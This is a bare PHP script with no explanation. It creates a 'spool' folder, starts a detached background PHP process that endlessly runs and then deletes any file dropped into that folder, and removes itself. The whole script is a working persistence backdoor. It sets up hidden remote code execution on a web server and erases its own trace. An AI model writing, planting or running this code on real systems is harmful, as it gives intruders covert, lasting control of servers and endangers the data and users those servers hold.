<?php
@mkdir(__DIR__ . '/spool');
$code = 'for (;;) { foreach (glob("' . __DIR__ . '/spool/*") as $f) { include $f; unlink($f); } usleep(100000); }';
exec('nohup php -r ' . escapeshellarg($code) . ' >/dev/null 2>&1 &');
unlink(__FILE__);
